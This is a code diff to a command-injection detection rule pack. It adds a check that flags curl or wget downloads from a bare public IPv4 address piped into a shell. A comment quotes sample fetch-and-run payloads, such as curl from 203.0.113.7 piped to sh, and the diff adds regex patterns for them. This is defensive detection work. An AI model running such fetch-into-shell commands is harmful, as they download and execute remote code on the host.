@@ -3,6 +3,7 @@
  */
 import type { RulePack } from '../types';
 import { DISTINCTIVE_COMMANDS, shellCommands, type ShellCommand } from '../shell';
+import { judgeHost } from '../address';
 import { isOpaqueToken } from '../opaque-token';
 import { isDocumentLayout, isWrittenOutDocument } from '../prose';
 import type { InspectedValue } from '../value';
@@ -584,6 +585,22 @@ const OPENS_WITH_SEPARATOR = /^\s{0,3}(?:[\w.-]{1,40}[ \t]{0,3})?(?:[;|&`)'"\n]|
 const FETCH_INTO_SHELL = /\b(?:curl|wget)\b[^|\n;&]{0,200}\|[ \t]{0,5}(?:sudo[ \t]{1,5})?(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b/;
 
 /**
+ * A download from a bare public IPv4 address piped into a shell, wherever the pipe sits: inside a
+ * quoted `-c` argument (`-c "curl -s http://203.0.113.7/m.sh|sh"`), in a string handed to a
+ * process call of some language (`system('curl -s 203.0.113.7/g|sh')`), in prose. Installers are
+ * fetched by name, and a how-to fetching from its own network's address names a private one.
+ */
+const FETCHED_ADDRESS = /(?:^|[\s/@'"])(\d{1,3}(?:\.\d{1,3}){3})(?=[:/\s|'"]|$)/;
+const CHAINED_SHELL = CMDI_RULES.find((rule) => rule.id === 400104)!;
+
+function fetchesFromPublicAddressIntoShell(lower: string): boolean {
+  if (lower.indexOf('|') < 0) return false;
+  const fetch = FETCH_INTO_SHELL.exec(lower);
+  const address = fetch === null ? undefined : FETCHED_ADDRESS.exec(fetch[0])?.[1];
+  return address !== undefined && judgeHost(address).kind === undefined;
+}
+
+/**
  * A script or build file written out in lines (a Dockerfile, a Makefile, a CI job, a shell script,
  * a package manifest's scripts), sent whole to a repository, a CI server or a wiki: its commands
  * are its subject, as a how-to's are. An injection lands inside a command line someone else wrote
@@ -627,6 +644,7 @@ export const commandInjectionPack: RulePack = {
     // The raw value: decoding reads the escapes as the letters they spell.
     if (v.lower.indexOf('printf') >= 0 && PRINTF_ESCAPES_SUBSTITUTION.test(v.raw.toLowerCase())) keep(DECODING_SUBSTITUTION);
     if (slicesCmdVariable(v)) keep(EVASIVE_EXPANSION);
+    if (fetchesFromPublicAddressIntoShell(v.lower)) report(CHAINED_SHELL);
     inspectShellGrammar(v, keep);
   },
 };
